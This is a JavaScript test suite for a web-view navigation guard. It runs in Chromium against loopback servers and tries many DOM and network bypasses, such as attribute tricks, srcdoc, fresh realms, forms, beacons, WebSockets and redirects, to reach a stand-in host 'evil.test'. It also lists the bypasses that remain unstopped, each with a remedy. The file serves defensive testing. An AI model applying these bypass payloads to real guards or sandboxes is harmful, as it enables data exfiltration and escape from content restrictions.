// @ts-check
/**
 * Every DOM way to a page that is not listed, and to the network behind the guard, in Chromium, against real servers on loopback.
 * Each attempt first gets past a naive web-view, then meets minifence: the guard alone, and the guard with its header (W-3). What
 * neither stops is listed with the remedy, and shown to get through: the list is kept honest by measurement.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { contentSecurityPolicy } from "../../js/guard/csp.js";
import { loadEngine, policy } from "../js/guard/host.js";
import { writeTally } from "../escape/tally.js";
import { openStage } from "./stage.js";

loadEngine();
/** @type {Awaited<ReturnType<typeof openStage>>} */
let stage;
const tallies = { element: tally("web-view element, DOM"), page: tally("inside a listed page"), ambient: tally("ambient network, fresh realms") };
/** @param {string} name @returns {any} */
function tally(name) {
  return { name, attempts: 0, bites: 0, stopped: 0, impossible: [], controls: 0 };
}

const POLICY = policy({ webViewDomains: { entries: [{ domain: "www.good.test" }] } });
const GUARDED = `import { keepModule } from "/js/engine.js"; import { installGuard } from "/js/guard/install.js"; import { mpaasHost } from "/js/hosts/mpaas.js";
keepModule(await WebAssembly.compile(await (await fetch("/engine.wasm")).arrayBuffer()));
installGuard(mpaasHost({ my: {}, document }), { policy: ${JSON.stringify(POLICY)} });`;
/** A correct check in the property and in `setAttribute`; the frame is there for everybody to find. */
const NAIVE = `const isListed = (url) => { try { return new URL(url).hostname === "www.good.test"; } catch { return false; } };
customElements.define("web-view", class extends HTMLElement {
  static observedAttributes = ["src", "srcdoc"];
  frame() { let f = this.querySelector("iframe"); if (!f) { f = document.createElement("iframe"); f.name = this.getAttribute("name") ?? ""; this.append(f); } return f; }
  get src() { return this.getAttribute("src"); }
  set src(url) { if (isListed(url)) this.setAttribute("src", url); }
  setAttribute(name, value) { if (name !== "src" || isListed(value)) super.setAttribute(name, value); }
  attributeChangedCallback(name, _, value) { if (this.isConnected) this.frame().setAttribute(name, value); }
  connectedCallback() { if (this.getAttribute("src")) this.frame().setAttribute("src", this.getAttribute("src")); }
});`;
const html = (/** @type {string} */ script) => `<!doctype html><title>runtime</title><body><web-view id="wv" name="wv1"></web-view><script type="module">${script}
window.ready = true;</script>`;

before(async () => {
  stage = await openStage();
  const wall = /** @type {{ name: string, value: string }} */ (contentSecurityPolicy(POLICY));
  stage.pages.set("/naive", { body: html(NAIVE) });
  stage.pages.set("/guard", { body: html(GUARDED) });
  stage.pages.set("/both", { body: html(GUARDED), headers: { [wall.name]: wall.value } });
});
after(async () => {
  writeTally("dom", Object.values(tallies));
  await stage?.close();
});

let runs = 0;
/**
 * One attempt in a page of its own. Many run at once: each has its own forbidden address.
 * @param {"naive" | "guard" | "both"} by @param {{ guest?: string, inside?: string, redirect?: string }} attempt @returns {Promise<number>} how many requests reached the host that is not listed
 */
async function reached(by, { guest, inside, redirect }) {
  const own = `/page/run-${runs += 1}-`;
  const evil = `https://evil.test${own}`;
  const page = await stage.browser.newPage();
  await page.goto(`${stage.origin}/${by}`);
  await page.waitForFunction("window.ready");
  await page.evaluate((src) => { /** @type {any} */ (window).wv.src = src; }, redirect?.replace("EVIL", evil) ?? "https://www.good.test/page/start");
  if (inside !== undefined) {
    for (let i = 0; i < 100 && !page.frames().some((one) => one.url().startsWith("https://www.good.test/")); i += 1) await page.waitForTimeout(50);
    const frame = page.frames().find((one) => one.url().startsWith("https://www.good.test/"));
    assert.ok(frame, "the listed page is shown");
    await frame.waitForLoadState();
    await frame.evaluate(([code, evil]) => { new Function("EVIL", code)(evil); }, [inside, evil]).catch(() => {});
  } else await page.waitForTimeout(150);
  if (guest !== undefined) await page.evaluate(([code, evil]) => { try { new Function("wv", "EVIL", "GOOD", code)(document.getElementById("wv"), evil, "https://www.good.test/page/y"); } catch { /* a refusal */ } }, [guest, evil]).catch(() => {});
  for (let i = 0; i < (by === "naive" ? 16 : 3); i += 1) {
    await new Promise((resolve) => { setTimeout(resolve, 150); });
    if (stage.targets.seen.some(({ host, path }) => host === "evil.test" && path.includes(own))) break;
  }
  await page.close();
  return stage.targets.seen.filter(({ host, path }) => host === "evil.test" && path.includes(own)).length;
}

/** Whether an attempt gets through: a busy machine may need a second look. @param {"naive" | "both"} by @param {Attempt} attempt */
async function getsThrough(by, attempt) {
  for (let looks = 0; looks < 3; looks += 1) if (await reached(by, attempt) > 0) return true;
  return false;
}

/** @typedef {{ guest?: string, inside?: string, redirect?: string, needs?: "header", impossible?: string }} Attempt */

/** Stopped by the element alone. @type {Record<string, Attempt>} */
const element = {
  "attribute with a namespace": { guest: "wv.setAttributeNS(null, 'src', EVIL)" },
  "attribute node": { guest: "wv.attributes.src.value = EVIL" },
  "attribute node's nodeValue": { guest: "wv.getAttributeNode('src').nodeValue = EVIL" },
  "a new attribute node": { guest: "const a = document.createAttribute('src'); a.value = EVIL; wv.setAttributeNode(a)" },
  "setNamedItem": { guest: "const a = document.createAttribute('src'); a.value = EVIL; wv.attributes.setNamedItem(a)" },
  "the prototype's setAttribute": { guest: "Element.prototype.setAttribute.call(wv, 'src', EVIL)" },
  "upper case": { guest: "wv.setAttribute('SRC', EVIL)" },
  "innerHTML": { guest: "document.body.insertAdjacentHTML('beforeend', `<web-view src='${EVIL}'></web-view>`)" },
  "a fragment": { guest: "document.body.append(document.createRange().createContextualFragment(`<web-view src='${EVIL}'></web-view>`))" },
  "a template": { guest: "const t = document.createElement('template'); t.innerHTML = `<web-view src='${EVIL}'></web-view>`; document.body.append(t.content.cloneNode(true))" },
  "importNode": { guest: "const t = document.createElement('template'); t.innerHTML = `<web-view src='${EVIL}'></web-view>`; document.body.append(document.importNode(t.content, true))" },
  "cloning": { guest: "const c = wv.cloneNode(false); c.setAttributeNS(null, 'src', EVIL); document.body.append(c)" },
  "adopting": { guest: "const d = document.implementation.createHTMLDocument(); d.body.innerHTML = `<web-view src='${EVIL}'></web-view>`; document.body.append(document.adoptNode(d.body.firstChild))" },
  "a parsed document": { guest: "document.body.append(new DOMParser().parseFromString(`<web-view src='${EVIL}'></web-view>`, 'text/html').body.firstChild)" },
  "document.write into the page": { guest: "document.write(`<web-view src='${EVIL}'></web-view>`)" },
  "shadow roots": { guest: "const h = document.createElement('div'); document.body.append(h); h.attachShadow({ mode: 'open' }).innerHTML = `<web-view src='${EVIL}'></web-view>`" },
  "a frame's pristine methods": { guest: "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.Element.prototype.setAttribute.call(wv, 'src', EVIL)" },
  "the inner frame's src": { guest: "const f = wv.querySelector('iframe') ?? wv.shadowRoot?.querySelector('iframe'); f.src = EVIL" },
  "the inner frame's srcdoc": { guest: "const f = wv.querySelector('iframe') ?? wv.shadowRoot?.querySelector('iframe'); f.srcdoc = `<iframe src='${EVIL}'></iframe>`" },
  "srcdoc of the element": { guest: "wv.setAttribute('srcdoc', `<iframe src='${EVIL}'></iframe>`)" },
  "contentWindow.location": { guest: "(wv.querySelector('iframe') ?? wv.shadowRoot.querySelector('iframe')).contentWindow.location = EVIL" },
  "frames[0].location": { guest: "frames[0].location = EVIL" },
  "window.open by the frame's name": { guest: "window.open(EVIL, wv.querySelector('iframe') ? 'wv1' : (() => { throw 1; })())" },
  "a javascript: page": { guest: "const n = document.createElement('web-view'); n.setAttributeNS(null, 'src', `javascript:fetch('${EVIL}', { mode: 'no-cors' })`); document.body.append(n)" },
  "composedPath": { guest: "wv.addEventListener('load', (e) => { const f = e.composedPath()[0]; if (f !== wv) f.src = EVIL; }, { capture: true, once: true }); wv.setAttribute('src', GOOD); const f = wv.querySelector('iframe'); if (f) f.src = EVIL" },
};
/** Started by the page that is shown: script of the runtime never sees it. @type {Record<string, Attempt>} */
const inPage = {
  "a redirect of the first load": { redirect: "https://www.good.test/redirect?to=EVIL", needs: "header" },
  "a redirect over two hops": { redirect: "https://www.good.test/redirect?to=https%3A%2F%2Fwww.good.test%2Fredirect%3Fto%3DEVIL", needs: "header" },
  "location": { inside: "location = EVIL", needs: "header" },
  "location.replace": { inside: "location.replace(EVIL)", needs: "header" },
  "a link": { inside: "const a = document.createElement('a'); a.href = EVIL; document.body.append(a); a.click()", needs: "header" },
  "a link with target=_self": { inside: "document.body.insertAdjacentHTML('beforeend', `<a target=_self href='${EVIL}'>x</a>`); document.querySelector('a').click()", needs: "header" },
  "a form (GET)": { inside: "document.body.insertAdjacentHTML('beforeend', `<form action='${EVIL}'></form>`); document.forms[0].submit()", needs: "header" },
  "a form (POST)": { inside: "document.body.insertAdjacentHTML('beforeend', `<form method=post action='${EVIL}'></form>`); document.forms[0].submit()", needs: "header" },
  "meta refresh": { inside: "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${EVIL}'>`)", needs: "header" },
  "a link that redirects": { inside: "location = 'https://www.good.test/redirect?to=' + EVIL", needs: "header" },
  "a delayed move": { inside: "setTimeout(() => { location = EVIL; }, 50)", needs: "header" },
  "a frame inside the page": { inside: "const f = document.createElement('iframe'); f.src = EVIL; document.body.append(f)", impossible: "a frame below a listed page obeys that page's headers, not the runtime's: the native navigation delegate asks `checkWebView` for every frame" },
  "a call of the page's own script": { inside: "fetch(EVIL, { mode: 'no-cors' })", impossible: "a listed page is trusted with its own network: list only pages whose owner you trust, or block in the native resource hook" },
  "an object inside the page": { inside: "const o = document.createElement('object'); o.data = EVIL; document.body.append(o)", impossible: "as a frame inside the page: the native navigation delegate" },
};
/** The runtime's own realm. @type {Record<string, Attempt>} */
const ambient = {
  "fetch": { guest: "fetch(EVIL, { mode: 'no-cors' }).catch(() => {})", needs: "header" },
  "fetch of a fresh realm": { guest: "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(EVIL, { mode: 'no-cors' }).catch(() => {})", needs: "header" },
  "fetch of a srcdoc realm": { guest: "const f = document.createElement('iframe'); f.srcdoc = `<script>fetch('${EVIL}', { mode: 'no-cors' })</scr` + 'ipt>'; document.body.append(f)", needs: "header" },
  "fetch of a blob realm": { guest: "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([`<script>fetch('${EVIL}', { mode: 'no-cors' })</scr` + 'ipt>'], { type: 'text/html' })); document.body.append(f)", needs: "header" },
  "XMLHttpRequest": { guest: "const x = new XMLHttpRequest(); x.open('GET', EVIL); x.send()", needs: "header" },
  "WebSocket": { guest: "new WebSocket(EVIL.replace('https', 'wss'))", needs: "header" },
  "EventSource": { guest: "new EventSource(EVIL)", needs: "header" },
  "sendBeacon": { guest: "navigator.sendBeacon(EVIL, 'x')", needs: "header" },
  "a request that redirects": { guest: "fetch('https://api.good.test/redirect?to=' + EVIL).catch(() => {})", needs: "header" },
  "a worker from a blob": { guest: "new Worker(URL.createObjectURL(new Blob([`fetch('${EVIL}', { mode: 'no-cors' })`])))", needs: "header" },
  "a plain iframe": { guest: "const f = document.createElement('iframe'); f.src = EVIL; document.body.append(f)", needs: "header" },
  "a late location of a plain iframe": { guest: "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = EVIL", needs: "header" },
  "document.write into a frame": { guest: "const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write(`<iframe src='${EVIL}'></iframe>`)", needs: "header" },
  "nested fresh frames": { guest: "const f = document.createElement('iframe'); document.body.append(f); const g = f.contentDocument.createElement('iframe'); f.contentDocument.body.append(g); g.src = EVIL", needs: "header" },
  "object": { guest: "const o = document.createElement('object'); o.data = EVIL; document.body.append(o)", needs: "header" },
  "embed": { guest: "const e = document.createElement('embed'); e.src = EVIL; document.body.append(e)", needs: "header" },
  "a link into a named frame": { guest: "const f = document.createElement('iframe'); f.name = 'n1'; document.body.append(f); const a = document.createElement('a'); a.target = 'n1'; a.href = EVIL; document.body.append(a); a.click()", needs: "header" },
  "a form into a named frame": { guest: "const f = document.createElement('iframe'); f.name = 'n1'; document.body.append(f); const m = document.createElement('form'); m.target = 'n1'; m.method = 'post'; m.action = EVIL; document.body.append(m); m.submit()", needs: "header" },
  "a link's ping": { guest: "const a = document.createElement('a'); a.href = '#x'; a.ping = EVIL; document.body.append(a); a.click()", needs: "header" },
  "an image": { guest: "new Image().src = EVIL", impossible: "no list governs images, honest apps load them from anywhere (a decision): run guests in a worker, or add `img-src` to the header" },
  "a style sheet": { guest: "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = EVIL; document.head.append(l)", impossible: "no list governs style sheets: add `style-src` to the header" },
  "a script": { guest: "const s = document.createElement('script'); s.src = EVIL; document.head.append(s)", impossible: "no list governs scripts: the container sends `script-src`" },
  "import()": { guest: "import(EVIL).catch(() => {})", impossible: "no list governs scripts: the container sends `script-src`" },
  "moving the runtime's own page": { guest: "location = EVIL", impossible: "a document may leave: put the runtime in a frame of a host page with its own `frame-src`, or refuse in the navigation delegate" },
  "a window": { guest: "window.open(EVIL)", impossible: "popups have no directive: put the runtime in a frame with `sandbox` without `allow-popups`, or refuse in the native window hook" },
  "prefetch": { guest: "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = EVIL; document.head.append(l)", impossible: "only `default-src` governs prefetch: the container sends one beside this header" },
};

for (const [key, rows] of /** @type {const} */ ([["element", element], ["page", inPage], ["ambient", ambient]])) {
  test(tallies[key].name, { concurrency: 4 }, async (t) => {
    await Promise.all(Object.entries(rows).map(([say, attempt]) => t.test(say, async () => {
      const count = tallies[key];
      count.attempts += 1;
      assert.ok(await getsThrough("naive", attempt), "it must get past the naive web-view");
      count.bites += 1;
      if (attempt.impossible !== undefined) {
        assert.ok(await getsThrough("both", attempt), "it is stopped: take it from the list of what is impossible");
        return void count.impossible.push({ say, why: attempt.impossible });
      }
      assert.equal(await reached(attempt.needs === "header" ? "both" : "guard", attempt), 0);
      count.stopped += 1;
    })));
  });
}
